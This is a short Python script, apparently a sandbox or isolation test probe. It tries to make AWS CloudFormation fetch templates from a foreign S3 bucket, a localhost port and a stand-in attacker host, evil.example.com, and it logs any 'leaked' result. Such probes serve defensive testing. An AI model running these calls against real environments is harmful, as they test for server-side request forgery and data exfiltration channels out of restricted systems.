import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except Exception as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
attempt(lambda: boto3.client("cloudformation").get_template_summary(TemplateURL="https://%s.s3.amazonaws.com/stolen" % v["foreign_bucket"]))
attempt(lambda: boto3.client("cloudformation").get_template_summary(TemplateURL="http://127.0.0.1:%d/stolen" % v["tcp_port"]))
attempt(lambda: boto3.client("cloudformation").get_template_summary(TemplateURL="HTTPS://evil.example.com/stolen"))
